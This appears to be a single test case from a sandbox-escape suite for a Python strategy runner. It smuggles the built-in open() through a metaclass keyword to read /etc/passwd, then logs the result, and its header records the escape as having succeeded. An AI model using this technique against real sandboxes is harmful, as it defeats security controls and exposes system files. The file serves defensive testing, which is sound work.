# id: L16
# family: language
# goal: run code by a metaclass that is given as an expression
# finding: PY105 PY111 PY113 PY201 PY504
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


found = []


class Meta(type):
    @classmethod
    def __prepare__(meta, name, bases, **keywords):
        try:
            found.append(keywords["do"]("/etc/passwd").read(20))
        except Exception:
            pass
        return {}

    def __new__(meta, name, bases, names, **keywords):
        return super().__new__(meta, name, bases, names)


class Holder(metaclass=Meta, do=open):
    pass


def attack(ctx, bar):
    return found and found[0]


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
